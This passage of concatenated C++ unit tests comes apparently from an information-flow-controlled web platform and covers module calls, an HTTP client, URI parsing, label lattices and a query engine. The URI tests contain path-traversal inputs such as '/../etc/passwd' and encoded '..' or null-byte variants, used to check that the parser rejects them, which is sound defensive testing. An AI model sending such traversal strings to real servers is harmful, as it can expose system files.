    return HttpResponse::text(200, out.ok() ? "sent" : out.error().code);
  });
  const auto leak =
      provider_.http(Method::kGet, "/dev/devX/leaky", "", bob_);
  EXPECT_EQ(leak.status, 200);  // bob may see his own data...
  EXPECT_NE(leak.body.find("perimeter.denied"),
            std::string::npos);  // ...but the side door stayed shut
}

TEST_F(CallModuleTest, UnknownCalleeAndDepthLimit) {
  add_module("caller", [](AppContext& ctx) {
    auto inner = ctx.call_module("nobody", "nothing");
    return HttpResponse::text(200, inner.ok() ? "?" : inner.error().code);
  });
  EXPECT_NE(provider_.http(Method::kGet, "/dev/devX/caller", "", bob_)
                .body.find("module.not_found"),
            std::string::npos);

  // Mutual recursion bottoms out at the depth limit instead of looping.
  add_module("ping", [](AppContext& ctx) {
    auto inner = ctx.call_module("devX", "ping");
    return HttpResponse::text(200,
                              inner.ok() ? inner.value().body
                                         : inner.error().code);
  });
  const auto response =
      provider_.http(Method::kGet, "/dev/devX/ping", "", bob_);
  EXPECT_EQ(response.status, 200);
  EXPECT_NE(response.body.find("module.call_depth"), std::string::npos);
}

TEST_F(CallModuleTest, CalleeExceptionIsContained) {
  add_module("bomb", [](AppContext&) -> HttpResponse {
    throw std::runtime_error("boom with secrets");
  });
  add_module("caller", [](AppContext& ctx) {
    auto inner = ctx.call_module("devX", "bomb");
    return HttpResponse::text(200,
                              inner.ok() ? "?" : inner.error().code);
  });
  const auto response =
      provider_.http(Method::kGet, "/dev/devX/caller", "", bob_);
  EXPECT_EQ(response.status, 200);
  EXPECT_NE(response.body.find("module.call"), std::string::npos);
  EXPECT_EQ(response.body.find("secrets"), std::string::npos);
}

TEST_F(CallModuleTest, CalleeUsageCountsForSearchPopularity) {
  add_module("wrapper", [](AppContext& ctx) {
    (void)ctx.call_module("photoco", "photos", "list");
    return HttpResponse::text(200, "ok");
  });
  for (int i = 0; i < 3; ++i)
    (void)provider_.http(Method::kGet, "/dev/devX/wrapper", "", bob_);
  const auto hits = provider_.http(Method::kGet, "/search?q=photos");
  // photoco/photos accrued popularity through being called.
  EXPECT_NE(hits.body.find("photoco/photos@1.0"), std::string::npos);
  const auto pos = hits.body.find("photoco/photos@1.0");
  const auto pop = hits.body.find("\"popularity\":", pos);
  ASSERT_NE(pop, std::string::npos);
  EXPECT_NE(hits.body.substr(pop, 20).find("1"), std::string::npos);
}

}  // namespace
}  // namespace w5::platform
