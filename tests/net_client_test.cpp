// HttpClient behavior over the in-memory transport: happy path, truncated
// responses, malformed responses, and read_available edge cases.
#include <gtest/gtest.h>

#include "net/http_client.h"
#include "net/transport.h"

namespace w5::net {
namespace {

TEST(HttpClientTest, RoundTripAgainstPrebufferedResponse) {
  auto [client_end, server_end] = make_pipe();
  // The "server" wrote its response ahead of time (in-memory transports
  // are single-threaded; see fed::Node for the pump pattern).
  const auto canned = HttpResponse::json(200, R"({"pong":true})");
  ASSERT_TRUE(server_end->write(canned.to_wire()).ok());

  HttpClient client;
  HttpRequest request;
  request.target = "/ping";
  auto response = client.roundtrip(*client_end, request);
  ASSERT_TRUE(response.ok());
  EXPECT_EQ(response.value().status, 200);
  EXPECT_EQ(response.value().body, R"({"pong":true})");

  // The request bytes reached the server side intact.
  auto seen = server_end->read_available();
  ASSERT_TRUE(seen.ok());
  EXPECT_NE(seen.value().find("GET /ping HTTP/1.1"), std::string::npos);
}

TEST(HttpClientTest, EofMidResponseIsAnError) {
  auto [client_end, server_end] = make_pipe();
  ASSERT_TRUE(
      server_end->write("HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nshort")
          .ok());
  server_end->close();
  HttpClient client;
  HttpRequest request;
  auto response = client.roundtrip(*client_end, request);
  ASSERT_FALSE(response.ok());
  EXPECT_EQ(response.error().code, "http.incomplete");
}

TEST(HttpClientTest, MalformedResponseIsAParseError) {
  auto [client_end, server_end] = make_pipe();
  ASSERT_TRUE(server_end->write("NOT HTTP AT ALL\r\n\r\n").ok());
  HttpClient client;
  HttpRequest request;
  auto response = client.roundtrip(*client_end, request);
  ASSERT_FALSE(response.ok());
  EXPECT_EQ(response.error().code, "http.unsupported");
}

TEST(HttpClientTest, OversizedResponseHitsClientLimits) {
  auto [client_end, server_end] = make_pipe();
  auto big = HttpResponse::text(200, std::string(1000, 'x'));
  ASSERT_TRUE(server_end->write(big.to_wire()).ok());
  HttpClient client(ParserLimits{.max_body_bytes = 100});
  HttpRequest request;
  auto response = client.roundtrip(*client_end, request);
  ASSERT_FALSE(response.ok());
  EXPECT_EQ(response.error().code, "http.too_large");
}

TEST(HttpClientTest, WriteFailureSurfaces) {
  auto [client_end, server_end] = make_pipe();
  client_end->close();
  HttpClient client;
  HttpRequest request;
  auto response = client.roundtrip(*client_end, request);
  ASSERT_FALSE(response.ok());
  EXPECT_EQ(response.error().code, "net.closed");
}

TEST(ReadAvailableTest, RespectsMaxAndDrainSemantics) {
  auto [a, b] = make_pipe();
  ASSERT_TRUE(a->write(std::string(10000, 'z')).ok());
  auto capped = b->read_available(/*max=*/100);
  ASSERT_TRUE(capped.ok());
  EXPECT_EQ(capped.value().size(), 100u);
  auto rest = b->read_available();
  ASSERT_TRUE(rest.ok());
  EXPECT_EQ(rest.value().size(), 9900u);
  // Empty + open → would_block error; empty + closed → clean "".
  EXPECT_EQ(b->read_available().error().code, "net.would_block");
  a->close();
  auto after_close = b->read_available();
  ASSERT_TRUE(after_close.ok());
  EXPECT_TRUE(after_close.value().empty());
}

}  // namespace
}  // namespace w5::net
