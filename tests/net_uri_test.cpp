#include <gtest/gtest.h>

#include "net/uri.h"

namespace w5::net {
namespace {

TEST(PercentCodecTest, EncodesReservedCharacters) {
  EXPECT_EQ(percent_encode("abc-_.~XYZ09"), "abc-_.~XYZ09");
  EXPECT_EQ(percent_encode("a b"), "a%20b");
  EXPECT_EQ(percent_encode("a/b?c=d&e"), "a%2Fb%3Fc%3Dd%26e");
  EXPECT_EQ(percent_encode("\xff"), "%FF");
}

TEST(PercentCodecTest, DecodesStrictly) {
  EXPECT_EQ(percent_decode("a%20b"), "a b");
  EXPECT_EQ(percent_decode("a%2fb"), "a/b");
  EXPECT_EQ(percent_decode("plain"), "plain");
  EXPECT_FALSE(percent_decode("bad%2").has_value());
  EXPECT_FALSE(percent_decode("bad%zz").has_value());
  EXPECT_FALSE(percent_decode("%").has_value());
}

TEST(PercentCodecTest, PlusHandling) {
  EXPECT_EQ(percent_decode("a+b", /*plus_as_space=*/true), "a b");
  EXPECT_EQ(percent_decode("a+b", /*plus_as_space=*/false), "a+b");
}

TEST(PercentCodecTest, RoundTripsArbitraryBytes) {
  const std::string raw = "key=val ue/?&#%\x01\xff";
  EXPECT_EQ(percent_decode(percent_encode(raw)), raw);
}

TEST(QueryTest, ParsesPairs) {
  auto q = parse_query("a=1&b=two&a=3");
  ASSERT_TRUE(q.has_value());
  ASSERT_EQ(q->size(), 3u);
  EXPECT_EQ(query_get(*q, "a"), "1");  // first wins
  EXPECT_EQ(query_get(*q, "b"), "two");
  EXPECT_FALSE(query_get(*q, "missing").has_value());
}

TEST(QueryTest, HandlesEdgeShapes) {
  EXPECT_TRUE(parse_query("")->empty());
  auto q = parse_query("flag&x=&=y&&");
  ASSERT_TRUE(q.has_value());
  EXPECT_EQ(query_get(*q, "flag"), "");
  EXPECT_EQ(query_get(*q, "x"), "");
  EXPECT_EQ(query_get(*q, ""), "y");
}

TEST(QueryTest, DecodesEscapes) {
  auto q = parse_query("name=Bob+Smith&note=a%26b");
  ASSERT_TRUE(q.has_value());
  EXPECT_EQ(query_get(*q, "name"), "Bob Smith");
  EXPECT_EQ(query_get(*q, "note"), "a&b");
  EXPECT_FALSE(parse_query("bad=%zz").has_value());
}

TEST(QueryTest, EncodeRoundTrips) {
  QueryParams params{{"user", "bob smith"}, {"q", "a&b=c"}};
  auto parsed = parse_query(encode_query(params));
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(*parsed, params);
}

TEST(RequestTargetTest, ParsesPathAndQuery) {
  auto t = parse_request_target("/dev/devA/crop?photo=7&size=big");
  ASSERT_TRUE(t.has_value());
  EXPECT_EQ(t->path, "/dev/devA/crop");
  EXPECT_EQ(t->segments,
            (std::vector<std::string>{"dev", "devA", "crop"}));
  EXPECT_EQ(query_get(t->query, "photo"), "7");
  EXPECT_EQ(t->raw_query, "photo=7&size=big");
}

TEST(RequestTargetTest, RootAndTrailingSlashes) {
  auto root = parse_request_target("/");
  ASSERT_TRUE(root.has_value());
  EXPECT_EQ(root->path, "/");
  EXPECT_TRUE(root->segments.empty());

  auto trailing = parse_request_target("/a/b/");
  ASSERT_TRUE(trailing.has_value());
  EXPECT_EQ(trailing->path, "/a/b");
}

TEST(RequestTargetTest, ResolvesDotSegments) {
  auto t = parse_request_target("/a/./b/../c");
  ASSERT_TRUE(t.has_value());
  EXPECT_EQ(t->path, "/a/c");
}

TEST(RequestTargetTest, RejectsEscapesAboveRootAndGarbage) {
  EXPECT_FALSE(parse_request_target("/../etc/passwd").has_value());
  EXPECT_FALSE(parse_request_target("/a/../../b").has_value());
  EXPECT_FALSE(parse_request_target("relative/path").has_value());
  EXPECT_FALSE(parse_request_target("").has_value());
  EXPECT_FALSE(parse_request_target("/bad%zz").has_value());
  EXPECT_FALSE(parse_request_target("/nul%00byte").has_value());
}

TEST(RequestTargetTest, DecodedDotSegmentsAlsoResolved) {
  // %2e%2e == ".." after decoding; must not climb above root.
  EXPECT_FALSE(parse_request_target("/%2e%2e/secret").has_value());
  auto t = parse_request_target("/a/%2e%2e/b");
  ASSERT_TRUE(t.has_value());
  EXPECT_EQ(t->path, "/b");
}

}  // namespace
}  // namespace w5::net
