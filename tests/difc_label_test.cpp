#include <gtest/gtest.h>

#include "difc/label.h"
#include "util/rng.h"

namespace w5::difc {
namespace {

Tag t(std::uint64_t id) { return Tag(id); }

TEST(LabelTest, ConstructionSortsAndDedups) {
  const Label l{t(5), t(1), t(5), t(3)};
  ASSERT_EQ(l.size(), 3u);
  EXPECT_EQ(l.tags(), (std::vector<Tag>{t(1), t(3), t(5)}));
}

TEST(LabelTest, EmptyLabelBehaviour) {
  const Label empty;
  EXPECT_TRUE(empty.empty());
  EXPECT_TRUE(empty.subset_of(Label{t(1)}));
  EXPECT_TRUE(empty.subset_of(empty));
  EXPECT_FALSE(Label{t(1)}.subset_of(empty));
}

TEST(LabelTest, SubsetSemantics) {
  const Label a{t(1), t(2)};
  const Label b{t(1), t(2), t(3)};
  EXPECT_TRUE(a.subset_of(b));
  EXPECT_FALSE(b.subset_of(a));
  EXPECT_TRUE(a.subset_of(a));
  EXPECT_FALSE(Label{t(4)}.subset_of(b));
}

TEST(LabelTest, SetOperations) {
  const Label a{t(1), t(2), t(3)};
  const Label b{t(2), t(3), t(4)};
  EXPECT_EQ(a.union_with(b), (Label{t(1), t(2), t(3), t(4)}));
  EXPECT_EQ(a.intersect_with(b), (Label{t(2), t(3)}));
  EXPECT_EQ(a.subtract(b), (Label{t(1)}));
  EXPECT_EQ(b.subtract(a), (Label{t(4)}));
}

TEST(LabelTest, WithWithout) {
  const Label a{t(2)};
  EXPECT_EQ(a.with(t(1)), (Label{t(1), t(2)}));
  EXPECT_EQ(a.with(t(2)), a);
  EXPECT_EQ(a.without(t(2)), Label{});
  EXPECT_EQ(a.without(t(9)), a);
}

TEST(LabelTest, ContainsUsesBinarySearch) {
  Label l;
  for (std::uint64_t i = 2; i <= 200; i += 2) l = l.with(t(i));
  EXPECT_TRUE(l.contains(t(100)));
  EXPECT_FALSE(l.contains(t(101)));
  EXPECT_FALSE(l.contains(t(0)));
}

TEST(LabelTest, ToString) {
  EXPECT_EQ(Label{}.to_string(), "{}");
  EXPECT_EQ((Label{t(3), t(7)}).to_string(), "{t3,t7}");
}

// ---- Property suite: Labels form a bounded lattice under ⊆ with join =
// union and meet = intersection. Seeds parameterize random label draws.
class LabelLattice : public ::testing::TestWithParam<std::uint64_t> {
 protected:
  Label random_label(util::Rng& rng, std::size_t max_size = 12) {
    std::vector<Tag> tags;
    const std::size_t n = rng.next_below(max_size + 1);
    for (std::size_t i = 0; i < n; ++i)
      tags.push_back(t(1 + rng.next_below(20)));
    return Label(std::move(tags));
  }
};

TEST_P(LabelLattice, JoinIsLeastUpperBound) {
  util::Rng rng(GetParam());
  for (int round = 0; round < 200; ++round) {
    const Label a = random_label(rng), b = random_label(rng);
    const Label j = a.union_with(b);
    EXPECT_TRUE(a.subset_of(j));
    EXPECT_TRUE(b.subset_of(j));
    // Least: any upper bound contains the join.
    const Label ub = j.union_with(random_label(rng));
    EXPECT_TRUE(j.subset_of(ub));
  }
}

TEST_P(LabelLattice, MeetIsGreatestLowerBound) {
  util::Rng rng(GetParam() ^ 0xabcdef);
  for (int round = 0; round < 200; ++round) {
    const Label a = random_label(rng), b = random_label(rng);
    const Label m = a.intersect_with(b);
    EXPECT_TRUE(m.subset_of(a));
    EXPECT_TRUE(m.subset_of(b));
    const Label lb = m.intersect_with(random_label(rng));
    EXPECT_TRUE(lb.subset_of(m));
  }
}

TEST_P(LabelLattice, AlgebraicLaws) {
  util::Rng rng(GetParam() * 31 + 7);
  for (int round = 0; round < 200; ++round) {
    const Label a = random_label(rng), b = random_label(rng),
                c = random_label(rng);
    // Commutativity and associativity.
    EXPECT_EQ(a.union_with(b), b.union_with(a));
    EXPECT_EQ(a.intersect_with(b), b.intersect_with(a));
    EXPECT_EQ(a.union_with(b).union_with(c), a.union_with(b.union_with(c)));
    // Idempotence and absorption.
    EXPECT_EQ(a.union_with(a), a);
    EXPECT_EQ(a.intersect_with(a), a);
    EXPECT_EQ(a.union_with(a.intersect_with(b)), a);
    EXPECT_EQ(a.intersect_with(a.union_with(b)), a);
    // Subtraction laws.
    EXPECT_EQ(a.subtract(b).intersect_with(b), Label{});
    EXPECT_EQ(a.subtract(b).union_with(a.intersect_with(b)), a);
  }
}

TEST_P(LabelLattice, SubsetIsPartialOrder) {
  util::Rng rng(GetParam() + 1000);
  for (int round = 0; round < 200; ++round) {
    const Label a = random_label(rng), b = random_label(rng),
                c = random_label(rng);
    EXPECT_TRUE(a.subset_of(a));  // reflexive
    if (a.subset_of(b) && b.subset_of(a)) {
      EXPECT_EQ(a, b);  // antisymmetric
    }
    if (a.subset_of(b) && b.subset_of(c)) {
      EXPECT_TRUE(a.subset_of(c));  // transitive
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, LabelLattice,
                         ::testing::Values(1, 2, 3, 4, 5, 6, 7, 8));

}  // namespace
}  // namespace w5::difc
