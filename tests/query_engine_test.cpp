// Query engine tests (DESIGN.md §17): planner access paths, secondary
// index maintenance across every mutation path, cursor pagination, range
// scans, label-group skipping, and the §3.5 governor (count quantization
// + per-principal budgets). The invariant under test throughout: a plan
// may change cost, never results.
#include <gtest/gtest.h>

#include <algorithm>
#include <set>
#include <string>
#include <vector>

#include "store/labeled_store.h"
#include "store/query.h"

namespace w5::store {
namespace {

using difc::Label;
using difc::LabelState;
using difc::ObjectLabels;
using difc::Tag;
using difc::TagPurpose;
using os::kKernelPid;
using os::Pid;

class QueryEngineTest : public ::testing::Test {
 protected:
  QueryEngineTest() : store_(kernel_, clock_) {}

  void SetUp() override {
    secret_ = kernel_.create_tag(kKernelPid, "sec(secret)",
                                 TagPurpose::kSecrecy)
                  .value();
  }

  static Record profile(const std::string& id, const std::string& owner,
                        const std::string& city, Label secrecy = {}) {
    Record record;
    record.collection = "profiles";
    record.id = id;
    record.owner = owner;
    record.labels = ObjectLabels{std::move(secrecy), {}};
    record.data["city"] = city;
    return record;
  }

  void put(Record record) {
    ASSERT_TRUE(store_.put(kKernelPid, std::move(record)).ok());
  }

  static std::vector<std::string> ids(const std::vector<Record>& records) {
    std::vector<std::string> out;
    for (const auto& record : records) out.push_back(record.id);
    return out;
  }

  os::Kernel kernel_;
  util::SimClock clock_;
  LabeledStore store_;
  Tag secret_{};
};

// ---- Planner + field index ---------------------------------------------------

TEST_F(QueryEngineTest, FieldIndexServesEqualityQueries) {
  ASSERT_TRUE(store_.create_index("profiles", "city").ok());
  put(profile("u1", "amy", "paris"));
  put(profile("u2", "bob", "tokyo"));
  put(profile("u3", "cat", "paris"));

  QueryOptions options;
  options.eq_field = "city";
  options.eq_value = "paris";
  const auto before = store_.query_stats();
  auto result = store_.query(kKernelPid, "profiles", options);
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(ids(result.value()), (std::vector<std::string>{"u1", "u3"}));
  const auto after = store_.query_stats();
  EXPECT_GT(after.plans_field, before.plans_field);
  EXPECT_EQ(after.plans_scan, before.plans_scan);
}

TEST_F(QueryEngineTest, ScanOnlyModeForcesScanWithIdenticalResults) {
  ASSERT_TRUE(store_.create_index("profiles", "city").ok());
  put(profile("u1", "amy", "paris"));
  put(profile("u2", "bob", "tokyo"));
  put(profile("u3", "cat", "paris"));

  QueryOptions indexed;
  indexed.eq_field = "city";
  indexed.eq_value = "paris";
  QueryOptions scanned = indexed;
  scanned.planner = PlannerMode::kScanOnly;

  const auto before = store_.query_stats();
  auto via_index = store_.query(kKernelPid, "profiles", indexed);
  auto via_scan = store_.query(kKernelPid, "profiles", scanned);
  ASSERT_TRUE(via_index.ok());
  ASSERT_TRUE(via_scan.ok());
  EXPECT_EQ(ids(via_index.value()), ids(via_scan.value()));
  const auto after = store_.query_stats();
  EXPECT_GT(after.plans_field, before.plans_field);
  EXPECT_GT(after.plans_scan, before.plans_scan);
}

TEST_F(QueryEngineTest, UnindexedEqualityDegradesToFilteredScan) {
  put(profile("u1", "amy", "paris"));
  put(profile("u2", "bob", "tokyo"));

  QueryOptions options;
  options.eq_field = "city";
  options.eq_value = "tokyo";
  const auto before = store_.query_stats();
  auto result = store_.query(kKernelPid, "profiles", options);
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(ids(result.value()), (std::vector<std::string>{"u2"}));
  const auto after = store_.query_stats();
  EXPECT_EQ(after.plans_field, before.plans_field);
  EXPECT_GT(after.plans_scan, before.plans_scan);
}

TEST_F(QueryEngineTest, CreateIndexBackfillsExistingRecords) {
  put(profile("u1", "amy", "paris"));
  put(profile("u2", "bob", "paris"));
  // Register after the data already exists; idempotent re-registration.
  ASSERT_TRUE(store_.create_index("profiles", "city").ok());
  ASSERT_TRUE(store_.create_index("profiles", "city").ok());
  ASSERT_EQ(store_.index_specs().size(), 1u);

  QueryOptions options;
  options.eq_field = "city";
  options.eq_value = "paris";
  auto result = store_.query(kKernelPid, "profiles", options);
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(ids(result.value()), (std::vector<std::string>{"u1", "u2"}));
  EXPECT_GT(store_.query_stats().field_postings, 0u);
}

// ---- Index maintenance across every mutation path ---------------------------

TEST_F(QueryEngineTest, OverwriteRehomesFieldPostings) {
  ASSERT_TRUE(store_.create_index("profiles", "city").ok());
  put(profile("u1", "amy", "paris"));
  put(profile("u1", "amy", "tokyo"));  // overwrite moves the posting

  QueryOptions paris;
  paris.eq_field = "city";
  paris.eq_value = "paris";
  QueryOptions tokyo = paris;
  tokyo.eq_value = "tokyo";
  EXPECT_TRUE(store_.query(kKernelPid, "profiles", paris).value().empty());
  EXPECT_EQ(ids(store_.query(kKernelPid, "profiles", tokyo).value()),
            (std::vector<std::string>{"u1"}));
}

TEST_F(QueryEngineTest, RemoveErasesAllPostings) {
  ASSERT_TRUE(store_.create_index("profiles", "city").ok());
  put(profile("u1", "amy", "paris"));
  ASSERT_TRUE(store_.remove(kKernelPid, "profiles", "u1").ok());

  QueryOptions by_city;
  by_city.eq_field = "city";
  by_city.eq_value = "paris";
  EXPECT_TRUE(store_.query(kKernelPid, "profiles", by_city).value().empty());
  QueryOptions by_owner;
  by_owner.owner = "amy";
  EXPECT_TRUE(
      store_.query(kKernelPid, "profiles", by_owner).value().empty());
  const auto stats = store_.query_stats();
  EXPECT_EQ(stats.field_postings, 0u);
  EXPECT_EQ(stats.owner_postings, 0u);
  EXPECT_EQ(stats.label_postings, 0u);
}

TEST_F(QueryEngineTest, ApplyWalOverwriteRehomesOwnerAndFieldPostings) {
  ASSERT_TRUE(store_.create_index("profiles", "city").ok());
  put(profile("u1", "amy", "paris"));
  // Replay a put for the same key from an earlier remove+recreate life:
  // different owner AND different city.
  util::Json op;
  op["op"] = "store.put";
  op["record"] = profile("u1", "bob", "tokyo").to_json();
  ASSERT_TRUE(store_.apply_wal(op).ok());

  QueryOptions amy;
  amy.owner = "amy";
  EXPECT_TRUE(store_.query(kKernelPid, "profiles", amy).value().empty());
  QueryOptions bob;
  bob.owner = "bob";
  EXPECT_EQ(ids(store_.query(kKernelPid, "profiles", bob).value()),
            (std::vector<std::string>{"u1"}));
  QueryOptions tokyo;
  tokyo.eq_field = "city";
  tokyo.eq_value = "tokyo";
  EXPECT_EQ(ids(store_.query(kKernelPid, "profiles", tokyo).value()),
            (std::vector<std::string>{"u1"}));
}

TEST_F(QueryEngineTest, LoadJsonRebuildsIndexesFromSnapshot) {
  put(profile("u1", "amy", "paris"));
  put(profile("u2", "bob", "tokyo"));
  const util::Json snapshot = store_.to_json();

  LabeledStore restored(kernel_, clock_);
  ASSERT_TRUE(restored.create_index("profiles", "city").ok());
  ASSERT_TRUE(restored.load_json(snapshot).ok());

  QueryOptions paris;
  paris.eq_field = "city";
  paris.eq_value = "paris";
  EXPECT_EQ(ids(restored.query(kKernelPid, "profiles", paris).value()),
            (std::vector<std::string>{"u1"}));
  QueryOptions bob;
  bob.owner = "bob";
  EXPECT_EQ(ids(restored.query(kKernelPid, "profiles", bob).value()),
            (std::vector<std::string>{"u2"}));
  EXPECT_EQ(restored.export_owned_by("amy").size(), 1u);
}

// ---- Cursor pagination + ranges ----------------------------------------------

TEST_F(QueryEngineTest, CursorPaginationWalksEveryRecordInOrder) {
  for (int i = 0; i < 100; ++i) {
    const std::string id =
        "r" + std::string(i < 10 ? "0" : "") + std::to_string(i);
    put(profile(id, "amy", "paris"));
  }
  std::vector<std::string> seen;
  QueryOptions options;
  options.owner = "amy";
  options.limit = 7;
  std::size_t pages = 0;
  const auto before = store_.query_stats();
  for (;;) {
    auto page = store_.query_page(kKernelPid, "profiles", options);
    ASSERT_TRUE(page.ok());
    for (const auto& record : page.value().records)
      seen.push_back(record.id);
    ++pages;
    ASSERT_LE(pages, 20u) << "cursor loop failed to terminate";
    if (page.value().next_cursor.empty()) break;
    options.cursor = page.value().next_cursor;
  }
  EXPECT_EQ(seen.size(), 100u);
  EXPECT_TRUE(std::is_sorted(seen.begin(), seen.end()));
  EXPECT_EQ(std::set<std::string>(seen.begin(), seen.end()).size(), 100u);
  // 100/7 → 15 pages (the 15th returns 2 rows + a cursor onto an empty
  // 16th page is avoided: 14 full pages + 1 short final page).
  EXPECT_EQ(pages, 15u);
  EXPECT_GT(store_.query_stats().cursor_resumes, before.cursor_resumes);
}

TEST_F(QueryEngineTest, MalformedCursorIsRejected) {
  put(profile("u1", "amy", "paris"));
  QueryOptions options;
  options.cursor = "posts/u1";  // wrong collection
  auto page = store_.query_page(kKernelPid, "profiles", options);
  ASSERT_FALSE(page.ok());
  EXPECT_EQ(page.error().code, "store.bad_cursor");
  options.cursor = "garbage";
  EXPECT_EQ(store_.query_page(kKernelPid, "profiles", options).error().code,
            "store.bad_cursor");
}

TEST_F(QueryEngineTest, CursorPaginationSkipsInvisibleRecordsCompletely) {
  // Interleave visible and secret records; a restricted caller's pages
  // must walk exactly the visible subset, never stalling on hidden rows.
  for (int i = 0; i < 30; ++i) {
    const std::string id =
        "r" + std::string(i < 10 ? "0" : "") + std::to_string(i);
    put(profile(id, "amy", "paris", i % 3 == 0 ? Label{secret_} : Label{}));
  }
  const Pid app = kernel_.spawn_trusted("app", LabelState({}, {}, {}));
  std::vector<std::string> seen;
  QueryOptions options;
  options.limit = 4;
  for (;;) {
    auto page = store_.query_page(app, "profiles", options);
    ASSERT_TRUE(page.ok());
    for (const auto& record : page.value().records)
      seen.push_back(record.id);
    if (page.value().next_cursor.empty()) break;
    options.cursor = page.value().next_cursor;
  }
  EXPECT_EQ(seen.size(), 20u);  // 10 of 30 carry the secret tag
  for (const auto& id : seen) {
    const int n = std::stoi(id.substr(1));
    EXPECT_NE(n % 3, 0) << id;
  }
  // The caller was never contaminated: it saw only public rows.
  EXPECT_EQ(kernel_.find(app)->labels.secrecy(), Label{});
}

TEST_F(QueryEngineTest, IdRangeIsInclusiveOnBothEnds) {
  for (const char* id : {"a", "b", "c", "d", "e"})
    put(profile(id, "amy", "paris"));
  QueryOptions options;
  options.min_id = "b";
  options.max_id = "d";
  auto result = store_.query(kKernelPid, "profiles", options);
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(ids(result.value()), (std::vector<std::string>{"b", "c", "d"}));
}

// ---- Label-group scanning ----------------------------------------------------

TEST_F(QueryEngineTest, LabelGroupsAboveClearanceAreSkippedWholesale) {
  put(profile("u1", "amy", "paris"));
  put(profile("u2", "bob", "paris", Label{secret_}));
  put(profile("u3", "cat", "paris", Label{secret_}));

  const Pid app = kernel_.spawn_trusted("app", LabelState({}, {}, {}));
  const auto before = store_.query_stats();
  auto result = store_.query(app, "profiles", {});
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(ids(result.value()), (std::vector<std::string>{"u1"}));
  const auto after = store_.query_stats();
  EXPECT_GT(after.label_groups_skipped, before.label_groups_skipped);
  EXPECT_GT(after.label_groups_checked, before.label_groups_checked);
}

TEST_F(QueryEngineTest, PlannerNeverChangesResults) {
  // Differential check across every access path: auto plan vs forced
  // scan over mixed owners/cities/labels must agree exactly.
  ASSERT_TRUE(store_.create_index("profiles", "city").ok());
  const char* cities[] = {"paris", "tokyo", "lima"};
  for (int i = 0; i < 60; ++i) {
    const std::string id =
        "r" + std::string(i < 10 ? "0" : "") + std::to_string(i);
    put(profile(id, i % 2 == 0 ? "amy" : "bob", cities[i % 3],
                i % 5 == 0 ? Label{secret_} : Label{}));
  }
  std::vector<QueryOptions> cases;
  {
    QueryOptions by_owner;
    by_owner.owner = "amy";
    cases.push_back(by_owner);
    QueryOptions by_city;
    by_city.eq_field = "city";
    by_city.eq_value = "tokyo";
    cases.push_back(by_city);
    QueryOptions both = by_city;
    both.owner = "bob";
    cases.push_back(both);
    QueryOptions ranged = by_owner;
    ranged.min_id = "r10";
    ranged.max_id = "r44";
    cases.push_back(ranged);
    QueryOptions paged = by_city;
    paged.offset = 3;
    paged.limit = 5;
    cases.push_back(paged);
    QueryOptions filtered;
    filtered.predicate = field_equals("city", "lima");
    cases.push_back(filtered);
  }
  for (std::size_t i = 0; i < cases.size(); ++i) {
    QueryOptions scanned = cases[i];
    scanned.planner = PlannerMode::kScanOnly;
    auto via_auto = store_.query(kKernelPid, "profiles", cases[i]);
    auto via_scan = store_.query(kKernelPid, "profiles", scanned);
    ASSERT_TRUE(via_auto.ok());
    ASSERT_TRUE(via_scan.ok());
    EXPECT_EQ(ids(via_auto.value()), ids(via_scan.value())) << "case " << i;
  }
}

// ---- §3.5 governor -----------------------------------------------------------

TEST_F(QueryEngineTest, QueryBudgetDeniesBeyondLimitAndWindowResets) {
  put(profile("u1", "amy", "paris"));
  store_.set_governor_config(QueryGovernorConfig{
      .count_quantum = 1, .budget_queries = 2,
      .budget_window_micros = 1'000'000});

  QueryOptions metered;
  metered.principal = "dev/app@1";
  EXPECT_TRUE(store_.query(kKernelPid, "profiles", metered).ok());
  EXPECT_TRUE(store_.count(kKernelPid, "profiles", metered).ok());
  auto denied = store_.query(kKernelPid, "profiles", metered);
  ASSERT_FALSE(denied.ok());
  EXPECT_EQ(denied.error().code, "store.query_budget");
  // Another principal is unaffected; anonymous scans are never metered.
  QueryOptions other;
  other.principal = "dev/other@1";
  EXPECT_TRUE(store_.query(kKernelPid, "profiles", other).ok());
  EXPECT_TRUE(store_.query(kKernelPid, "profiles", {}).ok());
  // The fixed window rolls over and the budget refills.
  clock_.advance(1'000'001);
  EXPECT_TRUE(store_.query(kKernelPid, "profiles", metered).ok());
  const auto stats = store_.query_stats();
  EXPECT_EQ(stats.queries_denied, 1u);
  EXPECT_GE(stats.budget_principals, 2u);
}

TEST_F(QueryEngineTest, CountQuantizationMakesAdjacentCountsIndistinguishable) {
  store_.set_governor_config(QueryGovernorConfig{.count_quantum = 10});
  EXPECT_EQ(store_.count(kKernelPid, "profiles").value(), 0u);  // 0 stays 0
  for (int i = 0; i < 7; ++i)
    put(profile("r" + std::to_string(i), "amy", "paris"));
  EXPECT_EQ(store_.count(kKernelPid, "profiles").value(), 10u);
  put(profile("r7", "amy", "paris"));
  // n=7 and n=8 answer identically: the ±1 probe learns nothing.
  EXPECT_EQ(store_.count(kKernelPid, "profiles").value(), 10u);
  for (int i = 8; i < 11; ++i)
    put(profile("r" + std::to_string(i), "amy", "paris"));
  EXPECT_EQ(store_.count(kKernelPid, "profiles").value(), 20u);
}

TEST_F(QueryEngineTest, OwnerCountRunsThroughTheOwnerIndex) {
  for (int i = 0; i < 20; ++i)
    put(profile("r" + std::to_string(i), i % 2 == 0 ? "amy" : "bob",
                "paris"));
  const auto before = store_.query_stats();
  QueryOptions options;
  options.owner = "amy";
  auto counted = store_.count(kKernelPid, "profiles", options);
  ASSERT_TRUE(counted.ok());
  EXPECT_EQ(counted.value(), 10u);
  const auto after = store_.query_stats();
  EXPECT_GT(after.plans_owner, before.plans_owner);
  EXPECT_EQ(after.plans_scan, before.plans_scan);
}

// ---- Predicate semantics (query.h missing-field contract) --------------------

TEST_F(QueryEngineTest, NegatedFieldPredicateMatchesRecordsMissingTheField) {
  put(profile("u1", "amy", "paris"));
  Record no_city;
  no_city.collection = "profiles";
  no_city.id = "u2";
  no_city.owner = "bob";
  no_city.data["age"] = 30;
  ASSERT_TRUE(store_.put(kKernelPid, std::move(no_city)).ok());

  // field_equals is false for a missing field...
